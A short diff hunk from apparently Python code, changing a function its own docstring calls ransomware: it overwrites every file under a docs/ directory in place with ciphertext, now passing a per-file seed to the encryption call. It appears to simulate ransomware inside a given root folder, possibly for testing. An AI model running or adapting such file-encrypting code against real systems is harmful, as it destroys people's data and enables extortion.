@@ -157,11 +157,11 @@ def _encrypt_documents(root: Path) -> int:
     """Ransomware that keeps names and sizes and leaves everything but documents alone: every
     file under docs/ overwritten in place with its ciphertext. Returns how many had a known type."""
     known = 0
-    for path in sorted((root / "docs").iterdir()):
+    for seed, path in enumerate(sorted((root / "docs").iterdir())):
         data = path.read_bytes()
         known += path.name != "report.pdf"
         with path.open("r+b") as f:
-            f.write(encrypted(data))
+            f.write(encrypted(data, seed))
     return known
 
 
